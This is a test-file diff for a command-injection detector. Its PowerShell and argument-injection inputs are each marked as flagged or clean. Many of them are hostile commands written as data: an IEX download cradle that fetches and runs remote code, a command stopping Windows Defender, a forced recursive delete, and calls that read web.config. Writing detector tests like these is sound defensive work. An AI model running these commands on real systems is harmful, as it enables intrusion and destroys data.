@@ -1316,3 +1316,106 @@ describe('cmdi round 20: a mail verb with a colon glued to it labels a line of a
     expectSameWhenSplit(d, [input], 'form');
   });
 });
+
+describe('cmdi session 18: a PowerShell cmdlet after "| " or "&" given an argument', () => {
+  // glued to '|' or after ';' a cmdlet fired before; after '| ' (a menu's separator: "Home | Get-Started") or '&' (which
+  // also splits query strings) the Verb-Noun cmdlet now counts when something follows it as an argument
+  it.each(['a | Get-ChildItem C:\\Users', 'a & Start-Process calc', 'a && Get-Content $env:TEMP\\x.txt', 'x &Stop-Service WinDefend',
+    '& Set-Content x.txt hi', 'x | Remove-Item -Recurse -Force .', 'x & Invoke-WebRequest -Uri http://h.test/a', 'q && New-Object Net.Sockets.TCPClient',
+    'x | Out-File \\\\h\\s\\o.txt'])('%s is flagged', (input) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('cmdi.chained-command');
+    expectSameWhenSplit(d, [input], 'query');
+  });
+  // menus and lists: another cell, a comma or sentence punctuation after it; Help; verbs with English nouns; a verb given
+  // an option after '&' (only a cmdlet counts there)
+  // ... and ending the value: a PowerShell pipeline pasted in a ticket ends that way (so x | Get-Process at the end stays a miss)
+  it.each(['Get-ChildItem -Path C:\\Logs -Filter *.log | Remove-Item', 'x | Get-Process', 'x | Get-LocalUser ', 'Home | Get-Started', 'Home | Get-Help', 'Home | Get-Content | Blog', 'Tips | Get-Process, Get-Service and more',
+    'Docs | Get-Item? see below', 'Tom & New-ish', 'a & get -x', 'Tom & new -ish', 'Q & A | Set-Up guide', 'Fish & Get-Together', 'Food & Drink | Add-Ons'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+});
+
+describe('cmdi session 18: an option opening the value whose value a program runs, given a path', () => {
+  // tar --use-compress-program= --to-command=, git --upload-pack=, rsync --rsh=, --exec=: the program runs the path it is given
+  // (a script the sender placed) as it runs a command word
+  it.each(['--use-compress-program=/tmp/x.sh', '--rsh=./r', '--upload-pack=~/p', '--to-command=/usr/bin/env', '--exec=/tmp/x',
+    '--checkpoint-action=exec=/tmp/x.sh', '--script-shell=\\\\h\\s\\x.cmd', '-oProxyCommand=/tmp/p', '%2D%2Drsh=%2Ftmp%2Fr'])('%s is flagged', (input) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('cmdi.argument-injection');
+    expectSameWhenSplit(d, [input], 'query');
+  });
+  // not opening the value (documentation), configure's --prefix, a relative name or a value that is no path
+  it.each(['tar: use --use-compress-program=/usr/bin/pigz', 'a --rsh=/usr/bin/ssh', '--prefix=/usr/local', '--prefix=~/opt', '--rsh=ssh-fast',
+    '--use-compress-program=pigz', 'command=/bin/x', 'x-command=/tmp/x', '-v --upload-pack=/x'])('%s stays clean of it', (input) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).not.toContain('cmdi.argument-injection');
+    expectSameWhenSplit(d, [input], 'query');
+  });
+});
+
+describe('cmdi session 18: PowerShell static method calls that start processes, load code or move data', () => {
+  // [Type]::Method( with the method glued to "]::" and to its '(': Process Start, Assembly Load, ScriptBlock Create,
+  // File ReadAllText / WriteAllBytes, Convert FromBase64String (an encoded command's first step), WebClient DownloadString
+  it.each(['; [System.Diagnostics.Process]::Start("cmd.exe")', '[Reflection.Assembly]::Load($b)', 'x|[IO.File]::WriteAllBytes("C:\\x.exe",$b)',
+    "x;[ScriptBlock]::Create('id').Invoke()", '[Convert]::FromBase64String("aWQ=")', '& [System.IO.File]::ReadAllText("C:\\inetpub\\web.config")',
+    '[Environment]::GetEnvironmentVariable("PATH")', '[x]::%53tart(1)', '[Activator]::CreateInstance($t)'])('%s is flagged', (input) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('cmdi.exec-call');
+    expectSameWhenSplit(d, [input], 'query');
+  });
+  // other static members (math, GUIDs, dates, TLS settings pasted in tickets), C++/Rust paths, a method not glued to the "::",
+  // Markdown link references and IPv6 literals
+  it.each(['[math]::Round(3.14)', '[Guid]::NewGuid()', '[DateTime]::Parse("2024-01-01")', '[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12',
+    'std::thread::start(f)', 'Vec::<u8>::new()', 'arr[i]:: start(x)', '[1]: https://x.test/a', 'http://[::1]:8080/start(x)', '[x]: Load(x)', '[x]:::Load(x)'])('%s stays clean of it', (input) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).not.toContain('cmdi.exec-call');
+    expectSameWhenSplit(d, [input], 'query');
+  });
+});
+
+describe('cmdi session 18: more cmdlets (Test-NetConnection, Resolve-DnsName, Expand-Archive, Compress-Archive)', () => {
+  it.each(['; Test-NetConnection h.test -Port 80', ';Resolve-DnsName h.test', '; Expand-Archive x.zip', '|Compress-Archive C:\\x x.zip',
+    'x | Resolve-DnsName h.test'])('%s is flagged', (input) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('cmdi.chained-command');
+    expectSameWhenSplit(d, [input], 'query');
+  });
+  it.each(['Home | Compress-Archive | Blog', 'Docs | Test-Archive, Test-Drive', 'x; resolve-conflicts later'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+  });
+});
+
+describe('cmdi session 18: powershell opening the value runs the rest of its command line', () => {
+  // powershell (and pwsh) run what follows as a command: a command word given an argument or a '(' (the download cradle
+  // IEX (New-Object Net.WebClient).DownloadString(...)), a quote or '(' with a command or cmdlet inside, a cmdlet given
+  // an option or code
+  it.each(["powershell IEX (New-Object Net.WebClient).DownloadString('http://h.test/a.ps1')", 'pwsh iex (x)', 'powershell iex x',
+    'powershell iex(x)', 'powershell Invoke-Expression (x)', 'powershell "IEX (x)"', "powershell 'whoami'", 'powershell (New-Object Net.WebClient).DownloadFile(1,2)',
+    'powershell Get-ChildItem -Recurse', 'powershell Get-Content $env:USERPROFILE\\x',
+    // iex opening the value likewise, given a '(' or quote holding a command (Elixir's prompt iex(1)> holds a number)
+    'IEX (New-Object Net.WebClient).DownloadString(1)', 'iex(New-Object Net.WebClient).DownloadString(1)', "IEX 'whoami'"])('%s is flagged', (input) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('cmdi.command-with-args');
+    expectSameWhenSplit(d, [input], 'query');
+  });
+  // titles, searches and prose about PowerShell: a version, a parenthesis or quote with no command in it, a cmdlet alone or
+  // with words after it (a search for its documentation)
+  it.each(['powershell tutorial', 'PowerShell vs bash', 'powershell Get-Help', 'PowerShell (Windows) guide', 'PowerShell "for beginners"',
+    'PowerShell & Python', 'PowerShell (Get started)', 'powershell [beginner]', 'PowerShell 7.4', 'powershell Get-Process',
+    'powershell get-childitem recurse', 'powershell "x"', 'IEX (Elixir shell)', 'iex tutorial', 'iex(1)'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+});
+
+describe('cmdi session 18: an option opening the value whose value a program runs, given it after a space', () => {
+  // getopt_long takes a required argument after a space as after '=': --upload-pack 'touch x', --to-command id, --rsh sh,
+  // --exec id, --use-compress-program /tmp/x.sh are the same argument injection as their '=' forms
+  it.each([["--upload-pack 'touch /tmp/x'", 'cmdi.exec-call'], ['--to-command id', 'cmdi.exec-call'], ['--rsh sh', 'cmdi.exec-call'],
+    ['--exec id', 'cmdi.exec-call'], ['--to-command $x', 'cmdi.exec-call'], ['--to-command  id', 'cmdi.exec-call'],
+    ['--use-compress-program /tmp/x.sh', 'cmdi.argument-injection'], ['--exec ./run', 'cmdi.argument-injection']])('%s is flagged', (input, rule) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+  // a value given no command word or path, configure's --prefix, the option not opening the value, a flag with no value
+  it.each(['--exec jest', '--use-compress-program pigz', '--prefix /usr/local', '--script vuln', 'a --to-command id', 'git rebase --exec make main',
+    '--help', '--command line tools'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+});
